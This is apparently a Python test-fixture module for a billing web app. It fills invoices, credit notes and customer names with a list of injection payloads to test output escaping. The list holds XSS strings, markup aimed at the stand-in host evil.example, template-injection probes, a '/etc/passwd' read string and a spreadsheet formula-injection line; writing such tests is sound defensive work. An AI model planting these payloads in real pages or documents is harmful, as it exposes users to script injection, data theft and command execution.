"""Text that would like to be more than text, and a customer all of whose words are such."""

import datetime as dt
import uuid
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Final

import sqlalchemy as sa
from sqlalchemy.orm import Session

from foundation.database import Transaction
from foundation.money import Money
from payments.basket.actions import put_in_basket
from payments.card.gateway import StripeGateway
from payments.card.sync import sync_payment
from receivables.actions.credit_notes import CreditNoteDraft, issue_credit_note
from receivables.actions.invoices import InvoiceDraft, LineDraft, issue_invoices
from receivables.models import CreditReason
from sandbox.stripe.world import StripeWorld
from tests.factories.books import Account, a_deed, an_account
from tests.factories.card import session_of, start

RUN: Final = "window.pwned=1"
PAYLOADS: Final = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>pay</a>",
    "<form action=//evil.example><button>",
    f"<math><mi xlink:href=javascript:{RUN}>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<base href=//evil.example/>",
    "<object data=//evil.example>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f'" onmouseover={RUN} x="',
    f"' onmouseover={RUN} x='",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus={RUN} "',
    f"` onerror={RUN} `",
    f"javascript:{RUN}",
    f"java&#x73;cript:{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(amount)s %s %n {0} {__class__}",
    '#read("/etc/passwd") $ x $ *b* @c',
    "\u202e<b>\u200b</b>\ufeff\u2066",
    "<\u0131mg src=x> \uff1cscript\uff1e",
    "=cmd|' /C calc'!A0",
)


def harmless(at: int) -> str:
    """A word of the same kind that is nothing but a word."""
    return f"Plain word {at}"


@dataclass(frozen=True, kw_only=True)
class Customer:
    """One customer, what it paid, and the addresses that show its words."""

    account: Account
    invoices: tuple[uuid.UUID, ...]
    addresses: tuple[str, ...]


def a_customer_of_words(
    books: Transaction,
    gateway: StripeGateway,
    world: StripeWorld,
    word: Callable[[int], str],
    ledger: str,
) -> Customer:
    """A customer whose every text is a `word`; half of its invoices are paid, half are chosen."""
    with books() as session:
        account = an_account(session, ledger=ledger)
        drafts = [_draft(account, at, word) for at in range(len(PAYLOADS))]
        ids = issue_invoices(session, drafts, deed=a_deed())
        note_id = issue_credit_note(session, _credit(drafts, ids), deed=a_deed())
    paid, owed = ids[::2], ids[1::2]
    payment_id = start(books, gateway, account, dict.fromkeys(paid, 10_000)).payment_id
    world.payer(session_of(books, payment_id)).pay()
    sync_payment(books, gateway, payment_id=payment_id, deed=account.deed())
    waiting = start(books, gateway, account, dict.fromkeys(owed[:3], 5_000)).payment_id
    with books() as session:
        put_in_basket(session, contact_id=account.contact_id, invoice_ids=owed, deed=account.deed())
        wanted = "SELECT receipt_id FROM card_payment WHERE id = :id"
        receipt_id = session.execute(sa.text(wanted), {"id": payment_id}).scalar_one()
    lists = ("/", "/invoices?state=all", "/basket", "/payments", "/payments?kind=card", "/profile")
    papers = (f"/payments/{payment_id}", f"/payments/{waiting}", f"/receipts/{receipt_id}")
    papers += ("/credit-notes", f"/credit-notes/{note_id}")
    shown = tuple(f"/invoices/{one}" for one in ids)
    return Customer(account=account, invoices=tuple(ids), addresses=(*lists, *papers, *shown))


def _draft(account: Account, at: int, word: Callable[[int], str]) -> InvoiceDraft:
    text = word(at)
    line = LineDraft(
        description=text,
        quantity=text[:32],
        unit=text[:16],
        net=Money(10_000, "EUR"),
        tax=Money(0, "EUR"),
    )
    return InvoiceDraft(
        ledger_id=account.ledger_id,
        customer_id=account.customer_id,
        number=f"{at}{text}"[:32],
        purchase_order=text[:64],
        issued_on=dt.date(2026, 9, 1) + dt.timedelta(days=at),  # one order in every list
        due_on=dt.date(2026, 10, 1) + dt.timedelta(days=at),
        currency="EUR",
        lines=[line],
    )


def _credit(drafts: Sequence[InvoiceDraft], ids: Sequence[uuid.UUID]) -> CreditNoteDraft:
    """All words of the invoices once more, in one credit note for the last of them."""
    last = drafts[-1]
    return CreditNoteDraft(
        ledger_id=last.ledger_id,
        customer_id=last.customer_id,
        number=last.number,
        reason=CreditReason.OTHER,
        issued_on=last.issued_on,
        currency=last.currency,
        lines=[line for draft in drafts for line in draft.lines],
        invoice_id=ids[-1],
    )


def rename(session: Session, account: Account, text: str) -> None:
    """Give customer, person and ledger that name, as an import or a typing hand might."""
    names = {
        "customer": account.customer_id,
        "person": account.person_id,
        "ledger": account.ledger_id,
    }
    for table, row_id in names.items():
        statement = sa.text(f"UPDATE {table} SET name = :text WHERE id = :id")
        session.execute(statement, {"text": text, "id": row_id})


def every_text(payloads: Sequence[str] = PAYLOADS) -> Callable[[int], str]:
    """The payloads by their place."""
    return lambda at: payloads[at]
